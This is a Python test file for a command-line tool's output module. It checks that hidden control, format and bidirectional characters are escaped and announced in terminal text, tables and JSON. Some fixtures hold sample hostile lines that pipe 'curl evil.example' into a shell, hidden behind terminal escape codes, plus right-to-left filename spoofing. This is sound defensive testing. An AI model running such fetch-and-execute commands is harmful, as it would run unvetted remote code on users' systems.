"""Hidden characters are escaped and announced in a terminal."""

import json
import unicodedata

import pytest
from hypothesis import given
from hypothesis import strategies as st

from artel.cli.output import announcement, escaped, json_text, one_line, show, table, visible
from artel.client.hidden_characters import hidden_characters

# Format characters that are visible.
DRAWN = "\u0600\u0601\u0602\u0603\u0604\u0605\u06dd\u070f\u0890\u0891\u08e2\U000110bd\U000110cd"
CONTROLS = st.text(st.sampled_from("\x1b\x9b\x9d\x07\x9c\r\n\t[]()P\\;01mAz я\u202e\u200b\u2066\U000e0041"))
pytestmark = pytest.mark.req("SEC-03.1")


def is_unseen(character: str) -> bool:
    return unicodedata.category(character) in ("Cc", "Cf", "Zl", "Zp", "Cs") and character not in DRAWN


def test_every_control_and_format_character_of_unicode_is_escaped() -> None:
    left = [
        f"{number:x}"
        for number in range(0x110000)
        if is_unseen(chr(number)) and visible(chr(number), "") == chr(number)
    ]

    assert left == []


@pytest.mark.parametrize(
    "invisible", ["\u3164", "\uffa0", "\u115f", "\u2800", "\ufe0f", "\U000e0100", "\u180b", "\u034f"]
)
def test_invisible_letters_and_marks_are_escaped(invisible: str) -> None:
    assert visible(f"admin{invisible}") == f"admin{escaped(invisible)}"


@given(st.one_of(st.text(), CONTROLS))
def test_text_without_hidden_characters_is_unchanged(text: str) -> None:
    assert (visible(text) == text) == (not [*hidden_characters(text)] and "\r" not in text)


@given(st.text(st.sampled_from("\x1b\x9d\x9c]P\u202e\u2066\u200bab \n\t")))
def test_no_character_is_dropped(text: str) -> None:
    assert visible(text).encode().decode("unicode_escape") == text


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        (
            'name = "a\x9d"; __import__("os").system("curl evil.example|sh"); z = "\x9cb"',
            'name = "a\\x9d"; __import__("os").system("curl evil.example|sh"); z = "\\x9cb"',
        ),
        (': "\x1b]"; curl evil.example | sh; : "\x07"', ': "\\x1b]"; curl evil.example | sh; : "\\x07"'),
        ("one\r\ntwo\rthree\ttab", "one\\r\ntwo\\rthree\ttab"),
        ("safe\u202eexe.txt\u202c", "safe\\u202eexe.txt\\u202c"),
        ("a\U000e0041b", "a\\U000e0041b"),
        ("\u26a0\ufe0f careful\ufe0f", "\u26a0\ufe0f careful\\ufe0f"),
    ],
)
def test_hidden_characters_are_shown_escaped(text: str, shown: str) -> None:
    assert visible(text) == shown


@pytest.mark.parametrize("symbol", "+<=>|~")
def test_variation_selector_after_ascii_symbol_is_escaped_and_announced(symbol: str) -> None:
    text = f"a {symbol}\ufe0f b"

    assert visible(text) == f"a {symbol}\\ufe0f b"
    assert announcement("The diff", text) == "The diff has 1 hidden character (U+FE0F); it is shown as \\ufe0f."
    assert visible("\u2194\ufe0f") == "\u2194\ufe0f"


def test_name_is_one_line_with_escaped_line_breaks() -> None:
    assert visible("a\nb\tc", keep="") == "a\\nb\\tc"
    assert one_line("a\n b\x9d  c") == "a b\\x9d c"
    assert one_line("abcdef", 4) == "abc…"


def test_announcement_counts_and_names_the_characters() -> None:
    assert announcement("The diff", "+a\x9d\n", "+\x9cb\r\n") == (
        "The diff has 2 hidden characters (U+009D, U+009C); they are shown as \\x9d."
    )
    assert announcement("The name", "x\u202ey") == "The name has 1 hidden character (U+202E); it is shown as \\u202e."
    assert announcement("The diff", "\x00\x01\x02\x03\x04\x05").endswith("U+0004, …); they are shown as \\x00.")
    assert announcement("The diff", "tabs\tand\r\nlines\n") == ""


@given(st.one_of(st.text(), CONTROLS))
def test_json_has_the_same_data_without_hidden_characters(text: str) -> None:
    shown = json_text({"text": text})

    assert json.loads(shown) == {"text": text}
    assert [*hidden_characters(shown.replace("\ufe0f", ""))] == []


def test_tables_and_fields_show_hidden_characters(capsys: pytest.CaptureFixture[str]) -> None:
    table([{"name": "web\u202e\x9d\nsite", "id": 1}], ("name", "id"), False, "")
    printed = capsys.readouterr()
    assert printed.out == "name                 id\nweb\\u202e\\x9d\\nsite  1\n"
    assert printed.err == "The table has 2 hidden characters (U+202E, U+009D); they are shown as \\u202e.\n"

    show({"name": "a\u200bb"}, False)
    show({}, False, "Created project 1 (a\u2066b).")
    printed = capsys.readouterr()
    assert printed.out.splitlines() == ["name               a\\u200bb", "Created project 1 (a\\u2066b)."]
    assert printed.err == "This has 1 hidden character (U+200B); it is shown as \\u200b.\n"

    table([{"name": "a\u200bb"}], ("name",), True, "")
    assert capsys.readouterr().out == '[\n  {\n    "name": "a\\u200bb"\n  }\n]\n'
